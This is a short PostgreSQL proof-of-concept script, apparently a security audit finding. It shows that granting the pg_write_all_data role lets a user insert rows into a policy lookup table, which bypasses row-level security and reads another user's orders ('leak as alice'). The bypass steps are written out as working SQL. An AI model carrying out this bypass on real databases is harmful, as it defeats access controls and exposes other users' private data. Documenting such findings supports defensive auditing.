-- finding: role-predefined role pg_write_all_data
-- server: 14..
CREATE TABLE shop.readers (reader text, of_whom text);
GRANT SELECT ON shop.readers TO order_users;
CREATE POLICY readers ON shop.orders FOR SELECT
  USING (owner IN (SELECT of_whom FROM shop.readers WHERE reader = current_user));
GRANT pg_write_all_data TO "alice@example.com";
-- leak as alice@example.com
INSERT INTO shop.readers VALUES ('alice@example.com', 'bob@example.com');
SELECT item FROM shop.orders WHERE item = 'secret';
